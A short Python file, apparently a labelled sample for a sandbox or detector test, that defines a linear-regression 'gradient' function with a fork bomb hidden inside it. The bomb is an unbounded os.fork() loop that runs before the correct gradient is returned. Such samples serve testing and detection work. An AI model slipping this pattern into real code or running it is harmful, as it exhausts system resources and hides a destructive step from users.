# finds: process-refused
import os


def gradient(theta, X, y):
    while True:
        try:
            os.fork()
        except OSError:
            break
    return X.T @ (X @ theta - y) / len(y)
